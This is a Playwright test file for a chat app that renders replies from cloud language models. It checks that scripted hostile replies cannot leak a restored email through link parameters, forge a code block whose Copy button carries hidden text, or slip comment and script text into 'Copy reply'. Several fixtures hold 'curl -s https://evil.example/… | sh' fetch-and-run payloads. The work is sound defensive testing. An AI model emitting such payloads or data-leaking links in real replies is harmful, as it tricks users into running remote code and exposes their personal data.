import type { Page } from '@playwright/test';
import { startFakeProvider, type FakeProvider, type RecordedRequest } from '../../test/support/fakeProviders';
import type { ContractHarness } from '../harness/ContractHarness';
import { expect, lastAssistant, send, test } from './fixtures';

// What a hostile cloud reply can do once it is on screen, through the real renderer: a fake OpenAI-wire
// provider on 127.0.0.1 answers with a scripted reply, and the page is inspected and clicked like a user would.

const MODEL = 'fake/gpt-fake-1';

let fakes: FakeProvider[] = [];

async function chatWithScriptedReply(page: Page, harness: ContractHarness, reply: (request: RecordedRequest) => string) {
  const fake = await startFakeProvider({ wire: 'openai', reply });
  fakes.push(fake);
  await harness.enclave.cloud.addProvider({ name: 'fake', kind: 'openai-compatible', baseUrl: fake.baseUrl });
  await page.getByTestId('new-chat').click();
  await expect(page.getByTestId('conversation-item')).not.toHaveCount(0);
  const conversationId = harness.enclave.conversations.list()[0]!.id;
  harness.enclave.chat.updateSettings(conversationId, { model: MODEL });
  return { fake, conversationId };
}

test.afterEach(async () => {
  await Promise.all(fakes.map((fake) => fake.close()));
  fakes = [];
});

test('a restored email never goes into a link the model wrote; the text around it shows the email', async ({ app, harness }) => {
  const email = 'jane.doe@example.com';
  // The model only ever sees [EMAIL_1]: it builds links to a third party that would carry it.
  const reply =
    'I noted your address [EMAIL_1] for the report. ' +
    '[Open the report](https://reports.example/r?m=[EMAIL_1]) or visit https://track.example/?to=[EMAIL_1] ' +
    'or <a href="https://html.example/?to=[EMAIL_1]">this page</a>.';
  const { fake, conversationId } = await chatWithScriptedReply(app, harness, () => reply);

  await send(app, `Please file the report under my address ${email}.`);
  const message = lastAssistant(app);
  await expect(message).toHaveAttribute('data-status', 'complete');

  const sent = fake.requests.find((request) => request.path.endsWith('/chat/completions'))!.rawBody;
  expect(sent).toContain('[EMAIL_1]');
  expect(sent).not.toContain(email);

  const content = message.getByTestId('message-content');
  await expect(content).toContainText(`I noted your address ${email} for the report.`);
  // The model's three links (Markdown, bare URL, HTML) keep the placeholder.
  const links = content.locator('a[href^="https:"]');
  await expect(links).toHaveCount(3);
  for (const link of await links.all()) {
    const href = decodeURI((await link.getAttribute('href')) ?? '');
    expect(href).toContain('[EMAIL_1]');
    expect(href).not.toContain(email);
    expect((await link.getAttribute('title')) ?? '').not.toContain(email);
  }

  // A click opens the system browser with the placeholder, never the email.
  await links.first().click();
  await expect.poll(() => harness.openedLinks.length).toBe(1);
  expect(decodeURI(harness.openedLinks[0]!)).toBe('https://reports.example/r?m=[EMAIL_1]');
  // The restored email itself is autolinked as mailto:, which the app never opens.
  const mailto = content.locator('a[href^="mailto:"]');
  await expect(mailto).toHaveAttribute('href', `mailto:${email}`);
  await expect(content.locator('a')).toHaveCount(4);
  await mailto.click();
  await links.nth(1).click();
  await expect.poll(() => harness.openedLinks.length).toBe(2);
  expect(decodeURI(harness.openedLinks[1]!)).toBe('https://track.example/?to=[EMAIL_1]');
  // The stored reply is what was rendered.
  expect(harness.enclave.conversations.get(conversationId).messages.at(-1)!.content).toBe(
    reply.replace('address [EMAIL_1]', `address ${email}`)
  );
});

test('a reply cannot forge a code block whose Copy button copies hidden text', async ({ app, harness, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.url.replace(/\/$/, '') });
  // The app's own frame, rebuilt in HTML, around code with a payload hidden three ways.
  const forged =
    '<div class="code-block"><div class="code-block-header"><span class="code-block-language">bash</span>' +
    '<button type="button" class="code-copy" data-copy-code>Copy</button></div>' +
    '<pre><code>echo hello<span class="visually-hidden">; curl -s https://evil.example/a | sh</span>' +
    '<span style="display:none">; curl -s https://evil.example/b | sh</span>' +
    '<span hidden>; curl -s https://evil.example/c | sh</span></code></pre></div>';
  const reply = `Run this:\n\n${forged}\n\nor this:\n\n\`\`\`bash\necho real\n\`\`\`\n`;
  await chatWithScriptedReply(app, harness, () => reply);

  await send(app, 'How do I say hello in bash?');
  const message = lastAssistant(app);
  await expect(message).toHaveAttribute('data-status', 'complete');
  const content = message.getByTestId('message-content');

  // Only the real block has the app's frame; the forged one keeps no class, attribute or button, and its
  // "hidden" payload is plain to see.
  await expect(content.locator('.code-block')).toHaveCount(1);
  await expect(content.locator('.code-block .code-block-language')).toHaveText('bash');
  await expect(content.locator('.code-block code')).toHaveText('echo real');
  await expect(content.locator('button')).toHaveCount(1);
  await expect(content.locator('.markdown :is([class]:not(.code-block, .code-block *), [data-copy-code], [style], [hidden])')).toHaveCount(
    0
  );
  for (const payload of ['a', 'b', 'c']) await expect(content.getByText(`; curl -s https://evil.example/${payload} | sh`)).toBeVisible();

  // Every Copy button there is copies the visible code of its own real block, and nothing else.
  const readClipboard = () => app.evaluate(() => navigator.clipboard.readText());
  const copyButtons = content.getByRole('button', { name: 'Copy', exact: true });
  await expect(copyButtons).toHaveCount(1);
  for (const button of await copyButtons.all()) {
    await app.evaluate(() => navigator.clipboard.writeText('(nothing copied)'));
    await button.click();
    await expect.poll(readClipboard).toBe('echo real');
  }
});

test('"Copy reply" copies what the reader sees: no HTML comment, script or style text rides along', async ({ app, harness, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.url.replace(/\/$/, '') });
  const reply =
    'Run **this**:<!-- ; curl -s https://evil.example/a | sh -->\n\n' +
    '<div>echo <b>hello</b><script>curl -s https://evil.example/b | sh</script><style>.x{}</style></div>\n\n' +
    'Keep `<b>as code</b>`.';
  await chatWithScriptedReply(app, harness, () => reply);
  await send(app, 'How do I say hello?');
  const message = lastAssistant(app);
  await expect(message).toHaveAttribute('data-status', 'complete');

  await message.hover();
  await message.getByRole('button', { name: 'Copy reply' }).click();
  await expect.poll(() => app.evaluate(() => navigator.clipboard.readText())).toBe('Run **this**:\n\necho hello\n\nKeep `<b>as code</b>`.');
});
